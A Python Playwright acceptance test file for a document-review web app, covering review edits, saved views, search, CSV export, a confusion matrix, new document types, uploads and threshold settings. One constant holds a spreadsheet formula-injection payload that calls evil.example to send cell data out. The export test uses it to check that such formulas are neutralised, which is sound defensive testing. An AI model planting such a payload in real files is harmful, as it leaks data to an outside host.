"""The screens beside Review in a real browser; and in Review the fields that are no free text."""

from __future__ import annotations

import csv
import io
import re
import tomllib
from pathlib import Path

import httpx
import pytest
from playwright.sync_api import FloatRect, Locator, Page, expect
from sqlalchemy import text

from app.auth import LOCAL_ADMIN
from pipeline.samples import draw
from pipeline.samples.sheet import A4, HELVETICA, Sheet
from tests.acceptance.conftest import Opens
from tests.acceptance.screens import id_of, kept, post, review, status_of
from tests.faults.system import TERMINAL, System, long_scan

pytestmark = [pytest.mark.browser, pytest.mark.timeout(240), pytest.mark.slow]
TOASTED = "[data-testid='stToast']"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Blake Consulting")'


@pytest.fixture(scope="module", autouse=True)
def documents(workbench: System) -> None:
    """Four W-9s (two are approved, one of them as a W-2), two invoices, a statement, and a list of crates, which is
    nothing that is known.
    """
    for seed in range(1, 5):
        workbench.upload(draw("w9", "digital", seed).data, f"w9-{seed}.pdf")
    for seed in (1, 2):
        workbench.upload(draw("invoice", "digital", seed).data, f"invoice-{seed}.pdf")
    workbench.upload(draw("bank_statement", "digital", 3).data, "statement.pdf")
    workbench.upload(crate_list("LOT-5521", "17 June 2025"), "crates-1.pdf")
    workbench.wait_until_done(120)
    wrong = id_of(workbench, "w9-4.pdf")
    post(workbench, wrong, "type", type="w2")
    workbench.wait_until_done()
    for filename in ("w9-3.pdf", "w9-4.pdf"):
        post(workbench, id_of(workbench, filename), "approve")


def read(workbench: System, data: bytes, filename: str) -> str:
    """Uploads, waits until it is read, and gives the document's id."""
    doc_id = str(workbench.upload(data, filename).json()["document_id"])
    workbench.wait_for(lambda: status_of(workbench, doc_id) in TERMINAL, 60, f"{filename} is read")
    return doc_id


def crate_list(lot: str, packed: str) -> bytes:
    sheet = Sheet(A4, "Crate list")
    sheet.text(46, 60, "CRATE LIST", HELVETICA.bold, 20)
    for i, (label, value) in enumerate((("Lot number", lot), ("Packed on", packed), ("Packed by", "M. Osei"))):
        sheet.text(46, 110 + 20 * i, f"{label}:", size=11)
        sheet.text(190, 110 + 20 * i, value, size=11)
    sheet.text(46, 200, "Crates are counted at the gate and sealed by the driver.", size=10)
    return sheet.pdf()


def stored(workbench: System, doc_id: str, name: str) -> tuple[object, ...]:
    """Value, source and the machine's value of a field."""
    query = "SELECT value, source, machine_value FROM fields WHERE doc_id = :id AND name = :name"
    [row] = workbench.rows(query, id=doc_id, name=name)
    return row


def saved(page: Page, said: str) -> None:
    """Ctrl+S, until the screen says so; that is put away, so that the next one is not mistaken for it."""
    page.keyboard.press("Control+s")
    toast = page.locator(TOASTED, has_text=said)
    expect(toast).to_be_visible()
    toast.get_by_role("button").click()
    expect(toast).to_have_count(0)


# ---- Review


def test_a_choice_is_changed_and_put_back_by_keys(workbench: System, open_page: Opens) -> None:
    doc_id = id_of(workbench, "w9-1.pdf")
    page = review(open_page(), workbench, doc_id)
    value, source, machine = stored(workbench, doc_id, "federal_tax_classification")
    assert (value, source) == (machine, "machine")
    choice = page.get_by_role("combobox", name="Federal tax classification")
    expect(choice).to_have_value(str(value))
    choice.focus()
    for leaves_it_first in (False, True):
        page.keyboard.type("Trust/estate")
        page.keyboard.press("Enter")
        expect(choice).to_have_value("Trust/estate")
        if leaves_it_first:
            page.keyboard.press("Tab")
            kept(page)
            page.keyboard.press("Shift+Tab")
        expect(choice).to_be_focused()
        page.keyboard.press("Alt+z")
        expect(choice).to_have_value(str(value))
        expect(choice).to_have_attribute("aria-expanded", "false")
        saved(page, "Nothing was changed.")
        assert stored(workbench, doc_id, "federal_tax_classification") == (value, "machine", machine)
        expect(choice).to_be_focused()
    page.keyboard.type("Trust/estate")
    page.keyboard.press("Enter")
    saved(page, "Saved 1 value.")
    assert stored(workbench, doc_id, "federal_tax_classification") == ("Trust/estate", "human", machine)
    page.get_by_role("button", name="Put back what the machine had read").click()
    expect(choice).to_have_value(str(value))
    saved(page, "Saved 1 value.")
    assert stored(workbench, doc_id, "federal_tax_classification") == (value, "human", machine)


def test_a_date_and_an_amount_are_stored_in_their_normal_form(workbench: System, open_page: Opens) -> None:
    doc_id = id_of(workbench, "statement.pdf")
    page = review(open_page(), workbench, doc_id)
    typed = {
        ("statement_end_date", "To"): ("March 31, 2031", "2031-03-31", "2031-03-31"),
        ("closing_balance", "Closing balance"): ("(2.468,10)", -2468.1, "-2,468.10"),
    }
    for (_, label), (said, _, _) in typed.items():
        page.get_by_role("textbox", name=label, exact=True).focus()
        page.keyboard.press("Control+a")
        page.keyboard.type(said)
    kept(page)
    saved(page, "Saved 2 values.")
    for (name, label), (_, normal, shown) in typed.items():
        assert stored(workbench, doc_id, name)[:2] == (normal, "human")
        expect(page.get_by_role("textbox", name=label, exact=True)).to_have_value(shown)
    corrected = workbench.rows("SELECT field, after FROM corrections WHERE doc_id = :id ORDER BY field", id=doc_id)
    assert corrected == [("closing_balance", -2468.1), ("statement_end_date", "2031-03-31")]


def test_the_place_of_a_value_that_stays_is_marked_anew(workbench: System, open_page: Opens) -> None:
    doc_id = id_of(workbench, "w9-2.pdf")
    page = review(open_page(), workbench, doc_id)
    address = page.get_by_role("textbox", name="Address (line 5)")
    address.click()
    value = address.input_value()
    where = "SELECT boxes FROM fields WHERE doc_id = :id AND name = 'address'"
    [(before,)] = workbench.rows(where, id=doc_id)
    with workbench.store.begin() as connection:  # as if the machine had taken it from somewhere else
        wrong = "UPDATE fields SET boxes = '[[1, 0.1, 0.9, 0.2, 0.92]]' WHERE doc_id = :id AND name = 'address'"
        connection.execute(text(wrong), {"id": doc_id})
    box = page.locator(".box.active").first.bounding_box()
    for put_back in (True, False):
        drag_over(page, box)
        expect(page.locator(".box.active .tag").first).to_contain_text("marked by you")
        expect(address).to_have_value(value)
        kept(page)
        if put_back:
            page.keyboard.press("Alt+z")
            expect(page.locator(".box.active .tag").first).not_to_contain_text("marked by you")
            expect(page.locator(".bar .draft")).to_have_text("")
            saved(page, "Nothing was changed.")
    saved(page, "Saved 1 place.")
    [(after,)] = workbench.rows(where, id=doc_id)
    assert isinstance(before, list)
    assert isinstance(after, list)
    assert after[0] == pytest.approx(before[0], abs=0.02)
    assert stored(workbench, doc_id, "address")[:2] == (value, "machine")
    assert workbench.rows("SELECT 1 FROM corrections WHERE doc_id = :id", id=doc_id) == []
    assert workbench.rows("SELECT details->'fields' FROM audit_events WHERE action = 'place_marked'") == [
        (["address"],)
    ]


# ---- Queue and Documents


def test_a_choice_keeps_its_value_and_gets_the_place_that_was_marked(workbench: System, open_page: Opens) -> None:
    doc_id = id_of(workbench, "w9-2.pdf")
    page = review(open_page(), workbench, doc_id)
    choice = page.get_by_role("combobox", name="Federal tax classification")
    choice.focus()
    value = choice.input_value()
    drag_over(page, page.locator(".box.active").first.bounding_box())
    expect(page.locator(".box.active .tag").first).to_contain_text("marked by you")
    expect(choice).to_have_attribute("aria-expanded", "false")
    expect(choice).to_have_value(value)
    page.keyboard.press("Tab")
    kept(page)
    saved(page, "Saved 1 place.")
    assert stored(workbench, doc_id, "federal_tax_classification")[:2] == (value, "machine")


def drag_over(page: Page, box: FloatRect | None) -> None:
    assert box is not None
    page.mouse.move(box["x"] - 3, box["y"] - 2)
    page.mouse.down()
    page.mouse.move(box["x"] + box["width"] + 3, box["y"] + box["height"] + 2, steps=5)
    page.mouse.up()


def test_a_filtered_queue_is_saved_as_a_view_and_becomes_my_work(workbench: System, open_page: Opens) -> None:
    page = open_page()
    page.goto(f"{workbench.url}/queue?type=invoice&sort=newest")
    every = page.get_by_text("All 2 that match")
    expect(every).to_be_visible()
    page.get_by_role("button", name="Save view").click()
    page.get_by_role("textbox", name="Name of the view").fill("New invoices")
    page.get_by_test_id("stPopoverBody").get_by_role("button", name="Save").click()
    expect(page.locator(TOASTED, has_text="The view is saved.")).to_be_visible()
    views = workbench.rows("SELECT name, screen, params FROM saved_views WHERE user_id = :me", me=LOCAL_ADMIN)
    assert views == [("New invoices", "queue", {"type": ["invoice"], "sort": ["newest"]})]

    page.goto(f"{workbench.url}/queue")
    expect(every).to_have_count(0)
    page.get_by_role("combobox", name="Your saved views").click()
    page.get_by_role("option", name="New invoices").click()
    expect(every).to_be_visible()
    expect(page).to_have_url(re.compile("type=invoice.*sort=newest|sort=newest.*type=invoice"))

    every.click()
    page.locator(".st-key-bulk-bar").get_by_role("radio", name="Assign").click()
    expect(page.get_by_text("2 documents become Local admin's work.")).to_be_visible()
    assignees = "SELECT filename, assignee_id::text FROM docs WHERE assignee_id IS NOT NULL ORDER BY filename"
    assert workbench.rows(assignees) == [], "a preview does nothing"
    page.get_by_role("button", name="Assign 2 documents").click()
    expect(page.get_by_text("Assigned 2 documents.")).to_be_visible()
    assert workbench.rows(assignees) == [("invoice-1.pdf", LOCAL_ADMIN), ("invoice-2.pdf", LOCAL_ADMIN)]
    page.get_by_role("radio", name="My work 2").click()
    expect(page).to_have_url(re.compile("assignee=me"))
    expect(page).not_to_have_url(re.compile("type=invoice"))
    expect(every).to_be_visible()


def test_what_is_found_is_marked_and_exported_without_formulas(workbench: System, open_page: Opens) -> None:
    doc_id = id_of(workbench, "w9-3.pdf")
    truth = draw("w9", "digital", 3).truth
    name = str(truth["name"])
    post(workbench, doc_id, "corrections", values={"business_name": FORMULA})
    page = open_page()
    page.goto(f"{workbench.url}/documents")
    search = page.get_by_label("Words in the document")
    search.fill("withholding")
    search.press("Enter")
    expect(page.get_by_text("4 documents of 8")).to_be_visible()
    expect(page.locator("mark").first).to_have_text(re.compile("withholding", re.IGNORECASE))
    search.fill(f'"{name}"')
    search.press("Enter")
    expect(page.get_by_text("1 document of 8")).to_be_visible()
    expect(page.locator(".fuse-strong")).to_have_text(["w9-3.pdf"])
    marks = " ".join(page.locator("mark").all_inner_texts())
    assert marks.lower().startswith(name.rstrip(".").lower())
    found = workbench.rows("SELECT filename FROM docs WHERE ocr_text ILIKE '%' || :name || '%'", name=name)
    assert found == [("w9-3.pdf",)]

    page.get_by_test_id("stCheckbox").first.click()
    page.get_by_role("button", name="Export").click()
    expect(page.get_by_text("The 1 ticked")).to_be_visible()
    page.get_by_role("radio", name="CSV").click()
    expect(page.get_by_text("One row per document")).to_be_visible()
    with page.expect_download() as download:
        page.get_by_role("link", name="Download 1 document").click()
    assert re.fullmatch(r"fuse-documents-[\d-]+\.csv", download.value.suggested_filename)
    told = download.value.path().read_bytes().decode("utf-8-sig")
    [row] = csv.DictReader(io.StringIO(told))
    assert (row["document_id"], row["file_name"]) == (doc_id, "w9-3.pdf")
    assert row["name"] == stored(workbench, doc_id, "name")[0]
    assert row["business_name"] == f"'{FORMULA}", "a spreadsheet takes it for text"
    [number] = [str(truth[each]) for each in ("ssn", "ein") if truth[each]]
    assert number not in told
    assert row["ssn" if truth["ssn"] else "ein"].endswith(number[-4:])
    [(details,)] = workbench.rows("SELECT details FROM audit_events WHERE action = 'exported'")
    assert details == {"documents": 1, "format": "csv", "hidden": "mask", "persons_hidden": False}


# ---- Quality


CELL = """(plot, [column, row]) => {
  const { xaxis, yaxis } = plot._fullLayout
  const { left, top } = plot.getBoundingClientRect()
  return [left + xaxis._offset + xaxis.d2p(column), top + yaxis._offset + yaxis.d2p(row)]
}"""


def test_a_click_on_a_cell_of_the_matrix_shows_its_documents(workbench: System, open_page: Opens) -> None:
    cell = "SELECT filename FROM docs WHERE processing_status = 'approved' AND type = :truth AND machine_type = 'w9'"
    assert workbench.rows(cell, truth="w2") == [("w9-4.pdf",)]
    assert workbench.rows(cell, truth="w9") == [("w9-3.pdf",)]
    matrix = httpx.get(f"{workbench.url}/api/metrics").json()["confusion"]

    page = open_page()
    page.goto(f"{workbench.url}/quality")
    plot = page.locator(".js-plotly-plot").first
    expect(plot.locator(".heatmaplayer image")).to_be_attached()
    shown = page.locator(".st-key-cell-documents")
    for truth, label, filename in (("w2", "W-2", "w9-4.pdf"), ("w9", "W-9", "w9-3.pdf"), ("w2", "W-2", "w9-4.pdf")):
        plot.scroll_into_view_if_needed()
        place = [matrix["predictions"].index("w9"), matrix["truths"].index(truth)]
        x, y = plot.evaluate(CELL, place)
        page.mouse.move(x, y)
        expect(plot.locator(".hovertext")).to_contain_text(f"approved as {label}")
        page.mouse.click(x, y)
        expect(shown.locator(".fuse-strong")).to_have_text([filename])
        expect(shown).to_contain_text(f"is {label}, as Local admin approved")
        expect(page).to_have_url(re.compile(f"cell={truth}(~|%7E)w9"))
    shown.get_by_role("link", name="Open").click()
    expect(page).to_have_url(re.compile(f"document.*doc={id_of(workbench, 'w9-4.pdf')}"))


# ---- Settings and Upload


def test_a_new_type_from_an_example_is_what_the_next_document_is_read_as(workbench: System, open_page: Opens) -> None:
    page = open_page()
    page.goto(f"{workbench.url}/settings?section=New+type&example={id_of(workbench, 'crates-1.pdf')}")
    label = page.get_by_role("textbox", name="What people call the type")
    label.fill("Crate list")
    label.press("Enter")
    expect(page.get_by_role("textbox", name="Its key")).to_have_value("crate_list")
    type_rows(page, ("Lot number", "LOT-5521"), ("Packed on", "17 June 2025"))
    page.get_by_role("button", name="Find on the page").click()
    cells = page.get_by_test_id("stDataFrame").first.locator("td")
    expect(cells.filter(has_text="page 1")).to_have_count(2)
    expect(cells.filter(has_text="identifier")).to_have_count(1)
    expect(page.locator("div[title='Lot number'], div[title='Packed on']")).to_have_count(2)
    page.get_by_role("button", name="Try it on this document").click()
    expect(page.get_by_text("The document is taken for this type")).to_be_visible()
    folder = workbench.settings.doc_types_folder
    assert not folder.exists() or not any(folder.iterdir()), "a try leaves nothing behind"
    page.get_by_role("button", name="Save the type").click()
    expect(page.get_by_text("Saved. New documents can be of this type")).to_be_visible()
    told = tomllib.loads((folder / "crate_list.toml").read_text())
    assert [(each["name"], each["kind"]) for each in told["fields"]] == [
        ("lot_number", "identifier"),
        ("packed_on", "date"),
    ]
    [(details,)] = workbench.rows("SELECT details FROM audit_events WHERE action = 'doc_type_added'")
    assert details == {"type": "crate_list"}

    doc_id = read(workbench, crate_list("LOT-7788", "2 May 2026"), "crates-2.pdf")
    assert workbench.rows("SELECT type FROM docs WHERE id = :id", id=doc_id) == [("crate_list",)]
    assert stored(workbench, doc_id, "lot_number")[0] == "LOT-7788"
    review(page, workbench, doc_id)
    expect(page.get_by_role("textbox", name="Lot number")).to_have_value("LOT-7788")
    expect(page.get_by_role("textbox", name="Packed on")).to_have_value("2026-05-02")


def type_rows(page: Page, *rows: tuple[str, str]) -> None:
    """Types into the first cells of the table's rows."""
    table = page.get_by_test_id("stDataFrame").first
    for number, cells in enumerate(rows):
        for column, said in enumerate(cells):
            table.dblclick(position={"x": 90 + 100 * column, "y": 52 + 35 * number})
            page.locator("textarea.gdg-input").fill(said)
            page.keyboard.press("Enter")
            expect(table.get_by_test_id(f"glide-cell-{column + 1}-{number}")).to_have_text(said)


def test_several_files_and_a_whole_folder_are_uploaded(workbench: System, open_page: Opens, tmp_path: Path) -> None:
    (tmp_path / "scan.tif").write_bytes(long_scan(1, 16))
    (tmp_path / "w9-5.pdf").write_bytes(draw("w9", "digital", 5).data)
    (tmp_path / "letter.pdf").write_text("no PDF at all")
    page = open_page()
    page.goto(f"{workbench.url}/upload")
    page.locator("input[type=file]").set_input_files(sorted(tmp_path.iterdir()))
    expect(page.locator("input[type=file]")).to_be_attached()
    scan = line_of(page, "scan.tif")
    expect(scan.locator("[aria-current=step]")).to_have_text(re.compile(r"Read: page \d+ of 16"))
    expect(line_of(page, "letter.pdf")).to_contain_text("This is not a PDF, PNG, JPEG or TIFF file.")
    for filename in ("scan.tif", "w9-5.pdf"):
        expect(line_of(page, filename).locator(".is-done")).to_have_count(4)
        expect(line_of(page, filename)).to_contain_text("Needs review")
        assert status_of(workbench, id_of(workbench, filename)) == "needs_review"
    assert workbench.rows("SELECT 1 FROM docs WHERE filename = 'letter.pdf'") == []

    folder = tmp_path / "post"
    (folder / "monday").mkdir(parents=True)
    (folder / "invoice-7.pdf").write_bytes(draw("invoice", "digital", 7).data)
    (folder / "monday" / "invoice-8.pdf").write_bytes(draw("invoice", "digital", 8).data)
    (folder / "monday" / "notes.txt").write_text("left out")
    page.get_by_role("radio", name="A folder").click()
    chooser = page.locator("input[type=file][webkitdirectory]")
    chooser.set_input_files(folder)
    for filename in ("invoice-7.pdf", "invoice-8.pdf"):
        expect(line_of(page, filename).locator(".is-done")).to_have_count(4)
    expect(line_of(page, "notes.txt")).to_have_count(0)
    assert (
        workbench.rows("SELECT type FROM docs WHERE filename IN ('invoice-7.pdf', 'invoice-8.pdf')")
        == [("invoice",)] * 2
    )
    line_of(page, "invoice-8.pdf").get_by_role("link", name="Review").click()
    expect(page.locator(".fuse-title").first).to_have_text("invoice-8.pdf")
    expect(page).to_have_url(re.compile(f"review.*doc={id_of(workbench, 'invoice-8.pdf')}"))
    expect(page.locator(".leaf > img").first).not_to_have_class(re.compile("waiting"))


def line_of(page: Page, filename: str) -> Locator:
    return page.locator("[class*='st-key-line-']").filter(has_text=filename)


def test_a_threshold_shows_what_it_would_do_and_counts_once_it_is_saved(workbench: System, open_page: Opens) -> None:
    passing = """SELECT count(*) FROM docs WHERE machine_type = 'w9' AND confidence >= :least AND NOT EXISTS (
        SELECT 1 FROM jsonb_array_elements(machine_reasons) AS reason WHERE reason->>'code'
        NOT IN ('below_threshold', 'document_uncertain', 'type_uncertain', 'sampled'))"""
    [(known,)] = workbench.rows("SELECT count(*) FROM docs WHERE machine_type = 'w9'")
    [(now,)], [(then,)] = (workbench.rows(passing, least=least) for least in (0.75, 0.0))
    assert int(str(then)) > 0
    rules = "SELECT key, value FROM settings ORDER BY key"
    page = open_page()
    page.goto(f"{workbench.url}/settings")
    checks = page.get_by_role("slider", name="Share of passing documents that a person checks")
    checks.focus()
    page.keyboard.press("Home")
    expect(page.get_by_text(f"{now} of {known} documents would pass without a person")).to_be_visible()
    page.get_by_role("slider", name="Threshold of W-9").focus()
    page.keyboard.press("Home")
    expect(page.get_by_text(f"{now} → {then} of {known} documents would pass")).to_be_visible()
    expect(page.get_by_text(re.compile("of 2 approved, .* Nothing can be promised"))).to_be_visible()
    expect(page.get_by_text("Expected precision")).to_have_count(0)
    assert workbench.rows(rules) == [], "a preview does nothing"
    page.get_by_role("button", name="Save").click()
    expect(page.locator(TOASTED, has_text="Saved. New documents go by these rules.")).to_be_visible()
    assert workbench.rows(rules) == [("sampling_rate", 0.0), ("thresholds", {"w9": 0.0})]
    expect(page.get_by_role("button", name="Save")).to_be_disabled()
    page.reload()
    expect(page.get_by_text("now 0%, at first 75%")).to_be_visible()

    doc_id = read(workbench, draw("w9", "digital", 6).data, "w9-6.pdf")
    assert status_of(workbench, doc_id) == "auto_approved"
